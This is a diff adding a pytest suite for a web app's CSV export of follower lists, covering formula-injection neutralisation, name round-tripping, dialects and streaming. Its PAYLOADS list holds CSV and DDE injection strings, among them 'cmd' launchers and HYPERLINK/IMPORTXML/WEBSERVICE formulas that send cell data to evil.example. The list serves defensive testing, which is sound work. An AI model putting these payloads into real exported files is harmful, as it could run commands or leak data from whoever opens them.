@@ -1,0 +1,135 @@
+"""CSV files: no cell runs, every name survives, and unknown stays empty."""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterable
+
+import pytest
+
+from webapp.analytics.follows import FollowRow
+from webapp.domain.errors import ErrorCode, Invalid
+from webapp.renderers.csv import Dialect, neutralise, render_follows
+
+PAYLOADS = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
+    '=IMPORTDATA("http://evil.example")',
+    '=WEBSERVICE("http://evil.example")',
+    '=DDE("cmd";"/C calc";"x")',
+    "=1+1;=2+2",
+    "=1,=2",
+    "+1+1",
+    "+cmd|' /C calc'!A0",
+    "+49151234567",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "--1",
+    "@SUM(1+1)",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "@ada",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "|calc",
+    "%0A=1+1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1)",
+    " =1+1",
+    "   @SUM(1)",
+    "\u00a0=1+1",
+    "\u3000-1",
+    "\ufeff=1+1",
+    " \t=1+1",
+]
+HARMLESS = ["ada", "ada.lovelace_", "a=b", "a+b", "7up", "_x", "été", "日本語", "قناة", "🌸", "'=1", "", "   "]
+AWKWARD = [*HARMLESS, "a;b", 'a"b', "a,b", "a\r\nb", '"=1"']
+DELIMITERS = {Dialect.STANDARD: ",", Dialect.EXCEL: ";"}
+# Excel reads UTF-8 only behind this mark.
+BOM = b"\xef\xbb\xbf"
+
+
+def rendered(rows: Iterable[FollowRow], dialect: Dialect, timezone: str = "UTC", locale: str = "en") -> bytes:
+    return b"".join(render_follows(rows, timezone, dialect, locale))
+
+
+def cells(content: bytes, dialect: Dialect) -> list[list[str]]:
+    text = content.removeprefix(BOM).decode("utf-8")
+    return list(csv.reader(io.StringIO(text, newline=""), delimiter=DELIMITERS[dialect]))
+
+
+@pytest.mark.parametrize("dialect", Dialect)
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_no_cell_begins_like_a_formula(payload: str, dialect: Dialect) -> None:
+    table = cells(rendered([FollowRow(payload, 0, True)], dialect), dialect)
+    assert len(table) == 2, "the payload made rows of its own"
+    assert len(table[1]) == 3, "the payload made cells of its own"
+    assert table[1][0] == "'" + payload
+
+
+@pytest.mark.parametrize("name", HARMLESS)
+def test_a_harmless_name_stays_as_it_is(name: str) -> None:
+    assert neutralise(name) == name
+
+
+@pytest.mark.parametrize("dialect", Dialect)
+def test_every_name_survives_whatever_is_in_it(dialect: Dialect) -> None:
+    table = cells(rendered([FollowRow(name, 0, None) for name in AWKWARD], dialect), dialect)
+    assert [row[0] for row in table[1:]] == AWKWARD
+
+
+def test_the_standard_dialect_is_rfc_4180_with_times_in_utc() -> None:
+    rows = [FollowRow("ada", 1_768_463_100, True), FollowRow("été", 0, False), FollowRow("x", 0, None)]
+    assert rendered(rows, Dialect.STANDARD, "Europe/Paris", "fr").decode() == (
+        "username,date_followed,is_mutual\r\n"
+        "ada,2026-01-15T07:45:00Z,true\r\n"
+        "été,1970-01-01T00:00:00Z,false\r\n"
+        "x,1970-01-01T00:00:00Z,\r\n"
+    )
+
+
+@pytest.mark.parametrize(("locale", "yes", "no"), [("en", "yes", "no"), ("fr", "oui", "non")])
+def test_the_excel_dialect_opens_by_a_double_click(locale: str, yes: str, no: str) -> None:
+    rows = [FollowRow("été", 1_768_463_100, True), FollowRow("b", 1_752_566_700, False), FollowRow("c", 0, None)]
+    content = rendered(rows, Dialect.EXCEL, "Europe/Paris", locale)
+    assert content.startswith(BOM)
+    assert content.count(BOM) == 1
+    assert cells(content, Dialect.EXCEL)[1:] == [
+        ["été", "2026-01-15 08:45:00", yes],
+        ["b", "2025-07-15 10:05:00", no],
+        ["c", "1970-01-01 01:00:00", ""],
+    ]
+
+
+@pytest.mark.parametrize("dialect", Dialect)
+def test_no_rows_are_a_file_with_its_header(dialect: Dialect) -> None:
+    assert cells(rendered([], dialect), dialect) == [["username", "date_followed", "is_mutual"]]
+
+
+def test_a_long_list_comes_in_pieces_and_is_read_only_as_it_is_written() -> None:
+    taken: list[int] = []
+
+    def rows() -> Iterable[FollowRow]:
+        for number in range(20_000):
+            taken.append(number)
+            yield FollowRow(f"person{number:05}", number, True)
+
+    pieces = iter(render_follows(rows(), "UTC", Dialect.STANDARD, "en"))
+    first = next(pieces)
+    assert len(taken) < 3000
+    assert len(first) < 70_000
+    table = cells(first + b"".join(pieces), Dialect.STANDARD)
+    assert [row[0] for row in table[1:]] == [f"person{number:05}" for number in range(20_000)]
+
+
+def test_an_unknown_dialect_is_refused_and_none_is_the_standard_one() -> None:
+    assert Dialect.parse("") is Dialect.STANDARD
+    assert Dialect.parse("excel") is Dialect.EXCEL
+    with pytest.raises(Invalid) as refusal:
+        Dialect.parse("tsv")
+    assert (refusal.value.code, refusal.value.params["field"]) == (ErrorCode.FIELD_INVALID, "dialect")
